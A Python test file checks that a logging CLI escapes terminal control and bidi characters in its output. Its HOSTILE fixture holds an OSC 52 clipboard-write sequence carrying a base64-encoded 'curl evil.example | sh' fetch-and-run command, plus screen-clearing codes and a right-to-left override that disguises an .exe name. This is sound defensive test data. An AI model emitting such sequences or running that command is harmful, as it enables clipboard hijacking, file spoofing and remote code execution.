"""``_cli.terminal``: text for people's terminals never carries a control sequence, JSON lines stay exact."""

from __future__ import annotations

import json

import pytest

from sendcloud_logging._cli.serve import format_received
from sendcloud_logging._cli.tables import format_log_table
from sendcloud_logging._cli.terminal import json_line, printable

HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the reader's clipboard
    "\x1b[2J\x1b[31m"  # CSI: clear the screen, red
    "\x9b31m"  # C1 CSI
    "\x85\x00\x08\x7f"  # C1 NEL, NUL, backspace, DEL
    "safe\u202egnp.exe\u2066\u2069\u200f"  # bidi override, isolates, a mark
)
UNSAFE = ["\x1b", "\x07", "\x9b", "\x85", "\x00", "\x08", "\x7f", "\u202e", "\u2066", "\u2069", "\u200f"]


def _clean(text: str) -> None:
    for char in UNSAFE:
        assert char not in text, repr(char)


def test_printable_escapes_every_control_and_bidi_character() -> None:
    shown = printable(HOSTILE)
    _clean(shown)
    assert shown.startswith("\\e]52;c;")
    assert "\\x9b31m" in shown
    assert "safe\\u202egnp.exe" in shown
    assert printable("Zoë ships\tto\nBerlin") == "Zoë ships\tto\nBerlin"  # text, tab and newline kept
    assert printable("a\tb\nc", one_line=True) == "a\\tb\\nc"


@pytest.mark.parametrize("char", ["\x1b", "\x9b", "\x85", "\u202e", "\u2028", "\x7f"])
def test_json_line_escapes_what_json_dumps_leaves_raw_and_reads_back_exactly(char: str) -> None:
    log = {"exception": f"before{char}after", "id": 1}
    line = json_line(log)
    assert char not in line
    assert "\n" not in line
    assert json.loads(line) == log


def test_tables_and_serve_lines_show_the_escapes() -> None:
    log = {"id": 1, "integration_id": 2, "method": "GET", "exception": HOSTILE, "full_url": "https://x/\x1b[8m"}
    for line in [*format_log_table([log]), format_received(log, received=0.0)]:
        _clean(line)
    assert "\\e[8m" in format_log_table([log])[1]
